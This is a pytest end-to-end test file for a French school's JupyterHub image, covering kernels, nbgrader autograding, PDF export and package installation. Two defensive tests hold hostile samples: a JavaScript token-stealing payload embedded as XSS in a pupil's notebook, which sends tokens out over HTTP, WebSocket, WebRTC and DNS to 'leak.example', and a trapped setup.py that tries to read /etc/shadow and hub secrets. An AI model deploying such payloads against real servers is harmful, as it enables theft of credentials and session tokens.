"""End-to-end: the classroom in the built image. Real kernels of "Python 3 (lycée)", run as a
student with nbclient inside the hub container; the example notebooks; the nbgrader example
through generate, release, fetch, submit and autograde; the PDF export of the user's server; the
packages that the school adds, through the admin service, across a container recreation."""
import io
import json
import time
from pathlib import Path

import pytest
import requests

from e2e_stack import HubUser, enrolled_class, kernel_facts
from remote_kernel import RemoteKernel

ADMIN = "classadmin"
#: The Teaching kernel page's pip goes through this machine's TLS-intercepting proxy, as a school's
#: would: its CA bundle is copied onto the data volume (test_site_packages...).
PIP_CA = "/srv/jupyterhub/proxy-ca.crt"
#: A folder of the school's own packages (PIP_FIND_LINKS), where a test puts a trapped one.
LINKS = "/tmp/jhub-test-links"
STACK_ENV = {"JHUB_ADMIN_USER": ADMIN, "PIP_CERT": PIP_CA, "PIP_FIND_LINKS": LINKS}
HOST_CA = Path("/etc/ssl/certs/ca-certificates.crt")
EXAMPLES = "/opt/venv/lib/python3.11/site-packages/jhub_admin_service/classroom/examples"
COURSE = "cours_prof_nsi"
ASSIGNMENT = "exemple_autocorrige"

#: Runs a notebook (JSON on stdin, or a path) with nbclient on the default kernel; prints each code
#: cell's outputs as JSON, and writes the executed notebook back when it came from a path.
RUN_NOTEBOOK = r"""
import json, sys
import nbformat
from nbclient import NotebookClient
path = sys.argv[1] if len(sys.argv) > 1 else None
nb = nbformat.read(path, as_version=4) if path else nbformat.reads(sys.stdin.read(), as_version=4)
NotebookClient(nb, timeout=180, allow_errors=False).execute()
if path and len(sys.argv) > 2:
    nbformat.write(nb, sys.argv[2])
print(json.dumps([c.get("outputs", []) for c in nb.cells if c.cell_type == "code"]))
"""


def notebook(*sources, markdown=()):
    import nbformat

    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3 (lycée)", "language": "python"}
    nb.cells = [nbformat.v4.new_markdown_cell(m) for m in markdown] + [nbformat.v4.new_code_cell(s) for s in sources]
    return nbformat.writes(nb)


def run_notebook(user, nb_json=None, path=None, save_to=None):
    """The outputs of each code cell of a notebook run by user on the default kernel."""
    args = ["/opt/venv/bin/python", "-c", RUN_NOTEBOOK] + ([path] if path else []) + ([save_to] if save_to else [])
    res = user.run(*args, input=nb_json, timeout=400)
    return json.loads(res.stdout.strip().splitlines()[-1])


def mimetypes(outputs):
    return {mime for out in outputs for mime in (out.get("data") or {})}


def text_of(outputs):
    parts = []
    for out in outputs:
        parts.append(out.get("text", ""))
        for mime in ("text/plain", "text/html"):
            parts.append("".join((out.get("data") or {}).get(mime, "")))
    return "".join(parts)


@pytest.fixture(scope="module")
def people(stack):
    """A teacher and two students of one class, imported with the CLI; their sessions."""
    return enrolled_class(stack, {"prof.nsi": "teacher", "eleve.a": "student", "eleve.b": "student"}, "1NSI", COURSE)


@pytest.fixture(scope="module")
def admin(stack):
    user = HubUser(stack, ADMIN, stack.initial_admin_password())
    assert user.login()
    user.make_token()
    return user


def test_every_library_imports_in_the_teaching_kernel_apart_from_the_hub(people):
    outputs = run_notebook(people["eleve.a"], notebook(
        "import sys, numpy, pandas, matplotlib, PIL, folium, ipywidgets, sql, nbautoeval, geopy, requests\n"
        "import ColabTurtlePlus.Turtle\n"
        "print('kernel:', sys.prefix, [p for p in sys.path if '/opt/venv' in p])",
        "import locale; print(locale.localeconv()['decimal_point'])"))
    line = next(line for line in text_of(outputs[0]).splitlines() if line.startswith("kernel: "))
    prefix, hub_paths = line[len("kernel: "):].split(" ", 1)
    assert prefix == "/opt/kernel" and hub_paths == "[]", text_of(outputs[0])
    assert text_of(outputs[1]).strip() == ","  # the French locale in the kernel


def test_example_notebooks_run_and_show_what_they_promise(stack, people):
    student = people["eleve.a"]
    shown = {name: run_notebook(student, path=f"{EXAMPLES}/{name}") for name in (
        "01-graphique.ipynb", "02-carte.ipynb", "03-image.ipynb", "04-tortue.ipynb", "05-widgets.ipynb",
        "06-sql.ipynb")}
    assert "image/png" in mimetypes(shown["01-graphique.ipynb"][0])  # the plot, inline
    assert "leaflet" in text_of(shown["02-carte.ipynb"][0]).lower()  # the folium map's HTML
    assert "image/png" in mimetypes(shown["03-image.ipynb"][0])  # the image
    assert "<svg" in text_of(shown["04-tortue.ipynb"][0])  # the turtle's drawing
    assert "application/vnd.jupyter.widget-view+json" in mimetypes(shown["05-widgets.ipynb"][0])
    rows = text_of(shown["06-sql.ipynb"][2])
    assert "Germinal" in rows and "Les Misérables" in rows and "Petit Prince" not in rows  # the query's rows


def test_teachers_get_the_examples_once_in_their_home(stack, people):
    files = stack.exec("hub", "bash", "-c", "cd /home/prof.nsi && stat -c '%U %n' exemples/*.ipynb "
                       f"{COURSE}/source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb").stdout.splitlines()
    assert len(files) == 7 and all(line.startswith("prof.nsi ") for line in files), files
    # Deleted or edited by the teacher: never given again, never overwritten.
    stack.exec("hub", "bash", "-c", "rm /home/prof.nsi/exemples/02-carte.ipynb && "
                                    "echo mine > /home/prof.nsi/exemples/01-graphique.ipynb")
    stack.exec("hub", "jhub-admin", "courses", "sync", "--force")
    assert stack.exec("hub", "cat", "/home/prof.nsi/exemples/01-graphique.ipynb").stdout == "mine\n"
    assert stack.exec("hub", "test", "-e", "/home/prof.nsi/exemples/02-carte.ipynb", check=False).returncode == 1


FILL_IN = r"""
import re, sys, nbformat
path, answers = sys.argv[1], {"moyenne": "    return sum(notes) / len(notes)", "est_pair": sys.argv[2]}
nb = nbformat.read(path, as_version=4)
for cell in nb.cells:
    for name, body in answers.items():
        if cell.cell_type == "code" and f"def {name}(" in cell.source:
            # the French course's stub (courses/teacher_homes.FRENCH_STUBS)
            cell.source = re.sub(r"    # VOTRE CODE ICI\n    raise NotImplementedError\(\)", lambda m: body, cell.source)
nbformat.write(nb, path)
"""


def test_the_example_assignment_is_autograded_on_the_teaching_kernel(stack, people):
    teacher = people["prof.nsi"]
    course_dir = f"/home/prof.nsi/{COURSE}"
    teacher.run("nbgrader", "generate_assignment", ASSIGNMENT, cwd=course_dir)
    teacher.run("nbgrader", "release_assignment", ASSIGNMENT, cwd=course_dir)
    answers = {"eleve.a": "    return n % 2 == 0", "eleve.b": "    return n % 2 == 1"}  # eleve.b: a wrong one
    for login, est_pair in answers.items():
        student = people[login]
        student.run("nbgrader", "fetch_assignment", ASSIGNMENT, "--course", COURSE)
        path = f"/home/{login}/{COURSE}/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
        student.run("/opt/venv/bin/python", "-c", FILL_IN, path, est_pair)
        student.run("nbgrader", "submit", ASSIGNMENT, "--course", COURSE)
    teacher.run("nbgrader", "collect", ASSIGNMENT, cwd=course_dir)
    teacher.run("nbgrader", "autograde", ASSIGNMENT, cwd=course_dir)
    scores = teacher.run("/opt/venv/bin/python", "-c", (
        "from nbgrader.api import Gradebook\n"
        f"with Gradebook('sqlite:///gradebook.db', {COURSE!r}) as gb:\n"
        f"    for s in ('eleve.a', 'eleve.b'):\n"
        f"        sub = gb.find_submission({ASSIGNMENT!r}, s)\n"
        "        print(s, sub.score, sub.max_score)"), cwd=course_dir).stdout.split("\n")
    assert "eleve.a 3.0 3.0" in scores and "eleve.b 2.0 3.0" in scores, scores


def test_pdf_export_of_an_accented_notebook_with_a_figure_and_a_formula(stack, people):
    from pypdf import PdfReader

    student = people["eleve.a"]
    source = f"/home/{student.name}/devoir-été.ipynb"
    student.run("/opt/venv/bin/python", "-c", "import sys; open(sys.argv[1], 'w').write(sys.stdin.read())", source,
                input=notebook("import matplotlib.pyplot as plt\nplt.plot([0, 1, 2], [0, 1, 4])\n"
                               "plt.title('Parabole : étude')\nplt.show()",
                               markdown=["# Énoncé : équations du second degré\n\nÀ résoudre, où "
                                         "$\\Delta = b^2 - 4ac$ : $x^2 - 5x + 6 = 0$."]))
    run_notebook(student, path=source, save_to=source)
    student.start_server()
    r = student.api("GET", f"/user/{student.name}/nbconvert/pdf/devoir-%C3%A9t%C3%A9.ipynb?download=true",
                    timeout=180)
    assert r.status_code == 200 and r.content.startswith(b"%PDF"), (r.status_code, r.text[:500])
    assert "devoir-été.pdf" in requests.utils.unquote(r.headers.get("Content-Disposition", ""))
    reader = PdfReader(io.BytesIO(r.content))
    text = "".join(page.extract_text() for page in reader.pages)
    assert "Énoncé" in text and "équations du second degré" in text and "À résoudre" in text, text
    assert "\\Delta" not in text and "$x^2" not in text, text  # the formula was typeset, not left as TeX
    assert sum(len(page.images) for page in reader.pages) >= 1  # the figure
    student.stop_server()


#: A student's output that, printed by a teacher, looks for the teacher's server file in the
#: runtime folders, shows what it found on the page and sends it out every way a page can: HTTP,
#: WebSocket, WebRTC's UDP, DNS (an image from a host name). PORT is the student's listener.
STEAL_TOKEN = """
var out = document.createElement('pre'); document.body.appendChild(out); out.textContent += 'SCRIPT-RAN ';
function get(url) { var x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.responseText; }
try {
  var found = get('file:///run/jupyter/').match(/\\d+(?=\\/)/g) || [];
  found.forEach(function (uid) {
    (get('file:///run/jupyter/' + uid + '/').match(/jpserver-\\d+\\.json/g) || []).forEach(function (name) {
      var token = JSON.parse(get('file:///run/jupyter/' + uid + '/' + name)).token;
      out.textContent += 'TOKEN=' + token + ' ';
      fetch('http://127.0.0.1:PORT/' + token);
      new WebSocket('ws://127.0.0.1:PORT/' + token);
      new Image().src = 'http://' + token + '.leak.example/';
    });
  });
} catch (e) { out.textContent += 'blocked '; }
var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]});
pc.createDataChannel('x'); pc.createOffer().then(function (o) { pc.setLocalDescription(o); });
"""

#: Listens as the student on TCP and UDP PORT until told STOP; prints what else it received.
LISTENER = r"""
import os, select, socket, sys
port = int(sys.argv[1])
tcp = socket.socket(); tcp.bind(("127.0.0.1", port)); tcp.listen(8)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.bind(("127.0.0.1", port))
open(f"/tmp/listening-{port}", "w").close()
received = []
while True:
    ready, _, _ = select.select([tcp, udp], [], [], 120)
    if not ready:
        break
    if tcp in ready:
        conn, _ = tcp.accept(); conn.settimeout(2)
        try: received.append(("tcp", conn.recv(500)))
        except OSError: received.append(("tcp", b""))
        conn.close()
    if udp in ready:
        data = udp.recv(2000)
        if data == b"STOP":
            break
        received.append(("udp", data))
print(repr(received))
"""


def hostile_submission(port: int) -> str:
    """A pupil's notebook whose outputs and Markdown carry STEAL_TOKEN in every form that does not
    look like a script (an SVG's onload, an image's onerror) and in those that do."""
    import nbformat

    steal = STEAL_TOKEN.replace("PORT", str(port))
    inline = steal.replace('"', "&quot;").replace("\n", " ")
    long_line = "resultat = " + "valeur_longue + " * 30 + "1"
    nb = nbformat.reads(notebook(long_line, markdown=["# Devoir\n\n$\\Delta = b^2 - 4ac$\n\n"
                                                    f'<img src="x" onerror="{inline}">']), as_version=4)
    nb.cells[1].outputs = [
        nbformat.v4.new_output("display_data", data={
            "text/html": f'<b>tableau</b><svg onload="{inline}"><circle r="5"/></svg>', "text/plain": "t"}),
        nbformat.v4.new_output("display_data", data={
            "text/html": f"<div>carte</div><script>{steal}</script>", "text/plain": "<folium.folium.Map at 0x7f>"}),
        nbformat.v4.new_output("display_data", data={"application/javascript": steal}),
        nbformat.v4.new_output("display_data", data={
            "text/html": '<meta http-equiv="refresh" content="0;url=file:///etc/passwd">', "text/plain": "m"}),
        nbformat.v4.new_output("stream", name="stdout", text=long_line + "\n"),
    ]
    return nbformat.writes(nb)


def test_printing_a_pupils_notebook_as_pdf_neither_reads_nor_sends_the_teachers_files(stack, people):
    """Issue 20, point 1: a teacher prints a pupil's hostile notebook. No script of the notebook
    runs (the formula is still typeset), no file is read, nothing reaches the pupil's listener, and
    what needs scripts is replaced by the French note."""
    import threading

    from pypdf import PdfReader

    teacher, student = people["prof.nsi"], people["eleve.a"]
    teacher.start_server()
    port = 47000 + int(time.time()) % 1000
    heard = {}
    listener = threading.Thread(target=lambda: heard.update(
        out=student.run("/opt/venv/bin/python", "-c", LISTENER, str(port), timeout=200).stdout))
    listener.start()
    try:
        deadline = time.monotonic() + 30
        while stack.exec("hub", "test", "-e", f"/tmp/listening-{port}", check=False).returncode != 0:
            assert time.monotonic() < deadline, "the pupil's listener did not start"
            time.sleep(0.2)
        teacher.run("/opt/venv/bin/python", "-c", "import sys; open(sys.argv[1], 'w').write(sys.stdin.read())",
                    f"/home/{teacher.name}/copie-eleve.ipynb", input=hostile_submission(port))
        r = teacher.api("GET", f"/user/{teacher.name}/nbconvert/pdf/copie-eleve.ipynb?download=true", timeout=180)
    finally:
        time.sleep(2)  # what Chromium sent on its way out has arrived
        stack.exec("hub", "/opt/venv/bin/python", "-c", "import socket, sys; socket.socket(socket.AF_INET, "
                   "socket.SOCK_DGRAM).sendto(b'STOP', ('127.0.0.1', int(sys.argv[1])))", str(port))
        listener.join(60)
    assert r.status_code == 200 and r.content.startswith(b"%PDF"), (r.status_code, r.text[:500])
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(r.content)).pages)
    assert heard.get("out", "").strip() == "[]", heard  # nothing at all reached the pupil
    assert "SCRIPT-RAN" not in text and "TOKEN=" not in text and "root:x:0" not in text, text
    assert "Devoir" in text and "\\Delta" not in text, text  # MathJax, the exporter's own script, ran
    assert text.count("a besoin de JavaScript") == 2, text  # the script output and the JavaScript one
    # The long line, as code and as output, wraps between words instead of being cut.
    assert "tableau" in text and text.count("valeur_longue") == 60, text
    exporters = teacher.api("GET", f"/user/{teacher.name}/api/nbconvert").json()
    assert "pdf" in exporters and not {"webpdf", "qtpdf", "qtpng"} & set(exporters), sorted(exporters)


def kernel_import(user, module):
    """module.__version__ in a new kernel of user, or the error's name."""
    out = run_notebook(user, notebook(f"try:\n    import {module}\n    print({module}.__version__)\n"
                                      "except ImportError as exc:\n    print(type(exc).__name__)"))
    return text_of(out[0]).strip()


def install_site_list(admin, text):
    r = admin.api("PUT", "/services/jhub-admin/api/kernel", json={"list": text})
    assert r.status_code == 200, r.text
    r = admin.api("POST", "/services/jhub-admin/api/kernel/install")
    assert r.status_code == 202, r.text
    job_id = r.json()["id"]
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        job = admin.api("GET", f"/services/jhub-admin/api/jobs/{job_id}?wait=30").json()
        if job["state"] not in ("queued", "running"):
            return job
    raise AssertionError(f"the installation did not end: {job}")


def test_site_packages_reach_the_kernel_survive_recreation_and_a_bad_one_changes_nothing(stack, people, admin):
    student = people["eleve.b"]
    stack.copy_to("hub", HOST_CA, PIP_CA)
    hub_freeze = stack.exec("hub", "/opt/venv/bin/pip", "freeze").stdout
    assert kernel_import(student, "tabulate") == "ModuleNotFoundError"

    job = install_site_list(admin, "# pour les tableaux\ntabulate==0.9.0\n")
    assert job["state"] == "done", job
    assert job["summary"]["packages"] == {"tabulate": "0.9.0"}
    assert kernel_import(student, "tabulate") == "0.9.0"
    # The kernel template saw the site packages change and started again: its kernels have it too.
    if not student.token:
        assert student.login()
        student.make_token()
    student.start_server()
    deadline, facts = time.monotonic() + 60, {}
    while time.monotonic() < deadline and not facts.get("preloaded"):
        kernel = RemoteKernel(student)
        facts = kernel_facts(kernel)
        version = kernel.execute("import tabulate\nprint(tabulate.__version__)")["stdout"].strip()
        kernel.shutdown()
    assert facts["preloaded"] and version == "0.9.0", facts

    stack.compose("up", "-d", "--no-build", "--force-recreate", "hub")  # volumes kept
    stack.wait_for_hub()
    assert kernel_import(student, "tabulate") == "0.9.0"

    job = install_site_list(admin, "tabulate==0.9.0\nnumpyy-paquet-introuvable==1.0\n")
    assert job["state"] == "failed" and "numpyy-paquet-introuvable" in job["error"], job
    assert "kernel is unchanged" in job["error"] and any("numpyy" in line for line in job["log"]), job
    assert kernel_import(student, "tabulate") == "0.9.0"
    page = admin.session.get(stack.url + "/services/jhub-admin/kernel", timeout=60)
    assert page.status_code == 200 and "numpyy-paquet-introuvable" in page.text and "jha-kernel-error" in page.text
    # A line that is not a package name is refused before anything runs.
    r = admin.api("PUT", "/services/jhub-admin/api/kernel", json={"list": "tabulate\n--index-url http://x\n"})
    assert r.status_code == 400 and "pip options" in r.json()["error"], r.text
    assert stack.exec("hub", "/opt/venv/bin/pip", "freeze").stdout == hub_freeze  # the hub's venv untouched


#: The build code of a typo-squatted package: it notes who it runs as, what it can read and what
#: the environment holds, where the test can see it.
TRAP_SETUP = """
import json, os
found = {"uid": os.getuid(), "environment": sorted(os.environ)}
for name, path in (("shadow", "/etc/shadow"), ("sidecar secret", "/srv/jupyterhub-secrets/sidecar.secret"),
                   ("cookie secret", "/srv/jupyterhub/jupyterhub_cookie_secret")):
    try:
        open(path, "rb").read(1)
        found[name] = "read"
    except OSError as exc:
        found[name] = type(exc).__name__
with open("/tmp/jhub-test-links/found.json", "w") as f:
    json.dump(found, f)
from setuptools import setup
setup(name="paquet-piege", version="1.0", py_modules=["paquet_piege"])
"""


def trapped_sdist(folder: Path) -> Path:
    import tarfile

    path = folder / "paquet-piege-1.0.tar.gz"
    files = {"setup.py": TRAP_SETUP, "paquet_piege.py": "__version__ = '1.0'\n",
             "PKG-INFO": "Metadata-Version: 1.0\nName: paquet-piege\nVersion: 1.0\n"}
    with tarfile.open(path, "w:gz") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"paquet-piege-1.0/{name}")
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    return path


def test_a_packages_build_code_never_runs_as_root_nor_sees_a_secret(stack, people, admin, tmp_path):
    """Issue 20, point 4: a source package (its setup.py is anyone's code) is refused; the admin's
    one exception (`# source`) is built by the unprivileged installing account, which reads no
    secret and gets none in its environment; what it installed is root's."""
    stack.copy_to("hub", HOST_CA, PIP_CA)
    stack.exec("hub", "install", "-d", "-m", "1777", LINKS)
    stack.copy_to("hub", trapped_sdist(tmp_path), f"{LINKS}/paquet-piege-1.0.tar.gz")
    stack.exec("hub", "chmod", "0644", f"{LINKS}/paquet-piege-1.0.tar.gz")

    job = install_site_list(admin, "tabulate==0.9.0\npaquet-piege==1.0\n")
    assert job["state"] == "failed" and "kernel is unchanged" in job["error"], job
    assert stack.exec("hub", "test", "-e", f"{LINKS}/found.json", check=False).returncode != 0  # never ran

    job = install_site_list(admin, "tabulate==0.9.0\npaquet-piege==1.0  # source : le paquet du lycée\n")
    assert job["state"] == "done", (job.get("error"), job.get("log", [])[-20:])
    found = json.loads(stack.exec("hub", "cat", f"{LINKS}/found.json").stdout)
    assert str(found["uid"]) == stack.exec("hub", "id", "-u", "jhub-packages").stdout.strip() != "0"
    assert found["shadow"] == found["sidecar secret"] == found["cookie secret"] == "PermissionError", found
    leaked = [name for name in found["environment"] if name.startswith(("JUPYTERHUB", "JHUB", "JPY"))]
    assert not leaked, found["environment"]
    assert kernel_import(people["eleve.b"], "paquet_piege") == "1.0"
    owners = stack.exec("hub", "sh", "-c", "find -L /opt/kernel-site/current ! -user root | head -5").stdout
    assert owners == "", owners


def test_a_student_plots_in_a_new_notebook_in_the_browser(stack, people):
    """The student's path in the browser: log in, a new notebook on the default kernel, a
    matplotlib cell, the figure on the page."""
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "browser"))
    from browsertools import ARTIFACTS, SCREENSHOTS, chromium, log_in

    student = people["eleve.b"]
    with chromium() as browser:
        page = browser.new_page(locale="fr-FR", viewport={"width": 1280, "height": 800})
        page.set_default_timeout(120_000)
        log_in(page, stack.url, student.name, student.password)
        page.wait_for_url(f"**/user/{student.name}/lab**")
        card = page.locator('.jp-LauncherCard[data-category="Notebook"]').first
        assert card.get_attribute("title") == "Python 3 (lycée)"
        card.click()
        page.get_by_text("Python 3 (lycée) | Inactif").wait_for()  # the kernel is up: the cell will run
        page.locator(".jp-NotebookPanel .jp-Cell .cm-content").first.click()
        page.keyboard.type("import matplotlib.pyplot as plt\nplt.plot([0, 1, 2, 3], [0, 1, 4, 9])\n"
                           "plt.title('Carrés : évolution')\nplt.show()")
        page.keyboard.press("Shift+Enter")
        figure = page.locator(".jp-OutputArea-output img").first
        figure.wait_for(state="visible")
        assert figure.get_attribute("src").startswith("data:image/png")
        assert "Python 3 (lycée)" in page.locator(".jp-NotebookPanel-toolbar").inner_text()
        # A widget renders (its front end is in the hub's environment, its kernel side in the kernel's).
        page.locator(".jp-NotebookPanel .jp-Cell .cm-content").last.click()
        page.keyboard.type("import ipywidgets\nipywidgets.IntSlider(value=7, description='Note')")
        page.keyboard.press("Shift+Enter")
        page.locator(".jp-OutputArea-output .widget-slider").first.wait_for(state="visible")
        page.screenshot(path=str(ARTIFACTS / "student-matplotlib.png"))
        page.screenshot(path=str(SCREENSHOTS / "student-matplotlib.png"))


def test_restart_and_run_all_as_a_notebook_opens_runs_the_cells_every_time(stack, people):
    """Each assignment's header asks pupils to restart the kernel and run every cell before handing
    in, and many press it as soon as the notebook shows its kernel ready. JupyterLab's sockets, as
    it opens them then (remote_kernel.py), on a new kernel each time: the cells run every time.
    jupyter_server alone left them waiting for a minute, or for good, 9 times in 15 here
    (classroom/kernel_websocket.py)."""
    student = people["eleve.b"]
    student.start_server()
    outcomes = []
    for _ in range(8):
        kernel = RemoteKernel(student)
        try:
            outcomes.append(kernel.restart_and_run_all_as_it_opens("NOM = ''"))
        finally:
            kernel.shutdown()
    assert outcomes == ["ok"] * 8, (outcomes, stack.logs("hub", tail=60))


#: Every file that a folium map asks for, and every font or image that their CSS names.
FOLIUM_FILES = r"""
import folium, json
m = folium.Map(location=[48.85, 2.35])
html = m._repr_html_()
print(json.dumps({"files": [url for _, url in m.default_js + m.default_css],
                  "cdn": [h for h in ("cdn.jsdelivr", "code.jquery", "cdnjs", "bootstrapcdn") if h in html]}))
"""


#: The school's tile server (JHUB_MAP_TILES, as the hub passes it), for maps that name none.
SCHOOL_TILES = r"""
import os
os.environ["JHUB_MAP_TILES"] = "https://tuiles.exemple.fr/{z}/{x}/{y}.png"
os.environ["JHUB_MAP_ATTRIBUTION"] = "Tuiles du lycée"
import folium
print(folium.Map()._repr_html_())
print("NAMED:", folium.Map(tiles="CartoDB positron")._repr_html_())
"""


def test_folium_takes_its_files_from_the_hub(stack, people):
    """Issue 21, point 10: a map's JavaScript and CSS (and the fonts and images that the CSS
    names) come from the hub itself, anonymous, none from a CDN; the school's tile server is the
    default, and the note under a map that did not load is French."""
    import re
    from urllib.parse import urljoin

    shown = json.loads(text_of(run_notebook(people["eleve.a"], notebook(FOLIUM_FILES))[0]).strip())
    assert shown["cdn"] == [] and len(shown["files"]) == 10, shown
    for url in shown["files"]:
        assert url.startswith("/hub/maps/"), url
        r = requests.get(stack.url + url, timeout=30)  # no login: public libraries
        assert r.status_code == 200 and len(r.content) > 100, (url, r.status_code)
        if url.endswith(".css"):
            for ref in set(re.findall(r"url\(['\"]?([^'\")?#]+)", r.text)) - {""}:
                if not ref.startswith("data:"):
                    assert requests.get(stack.url + urljoin(url, ref), timeout=30).status_code == 200, (url, ref)
    default, named = text_of(run_notebook(people["eleve.a"], notebook(SCHOOL_TILES))[0]).split("NAMED:")
    assert "tuiles.exemple.fr" in default and "Tuiles du lyc" in default and "openstreetmap" not in default
    assert "tuiles.exemple.fr" not in named and "cartocdn" in named  # a notebook's own choice stays
    assert "Si la carte ne s’affiche pas" in default and "Make this Notebook Trusted" not in default


def test_a_folium_map_shows_with_only_the_tile_server_reachable(stack, people):
    """Issue 21, point 10: in Chromium that resolves no host name but the school's tile server
    (every CDN unreachable, no proxy), a pupil's map loads Leaflet from the hub and its tiles from
    the tile server."""
    import base64
    import http.server
    import sys
    import threading

    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "browser"))
    from browsertools import ARTIFACTS, SCREENSHOTS, chromium, log_in

    png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
    asked = []

    class Tiles(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(png)))
            self.end_headers()
            self.wfile.write(png)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Tiles)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    tiles = f"http://tuiles.lycee.test:{server.server_port}/{{z}}/{{x}}/{{y}}.png"
    student = people["eleve.a"]
    try:
        with chromium("--no-proxy-server",
                      "--host-resolver-rules=MAP tuiles.lycee.test 127.0.0.1, EXCLUDE 127.0.0.1, MAP * ~NOTFOUND") as browser:
            page = browser.new_page(locale="fr-FR", viewport={"width": 1280, "height": 800})
            page.set_default_timeout(120_000)
            log_in(page, stack.url, student.name, student.password)
            page.wait_for_url(f"**/user/{student.name}/lab**")
            # A workspace of its own: whatever the pupil left open elsewhere, a launcher.
            page.goto(f"{stack.url}/user/{student.name}/lab/workspaces/carte?reset")
            page.locator('.jp-LauncherCard[data-category="Notebook"]').first.click()
            page.get_by_text("Python 3 (lycée) | Inactif").wait_for()
            page.locator(".jp-NotebookPanel .jp-Cell .cm-content").first.click()
            page.keyboard.type(f"import folium\nfolium.Map(location=[48.85, 2.35], zoom_start=5, "
                               f"tiles='{tiles}', attr='Tuiles du lycée')")
            page.keyboard.press("Shift+Enter")
            frame = page.frame_locator(".jp-OutputArea-output iframe").first
            frame.locator(".leaflet-tile-loaded").first.wait_for(state="attached")
            frame.get_by_text("Tuiles du lycée").wait_for()
            page.wait_for_timeout(500)
            page.screenshot(path=str(ARTIFACTS / "folium-map-filtered.png"))
            page.screenshot(path=str(SCREENSHOTS / "folium-map-filtered.png"))
    finally:
        server.shutdown()
    assert asked and all(p.endswith(".png") and p.count("/") == 3 for p in asked), asked[:5]
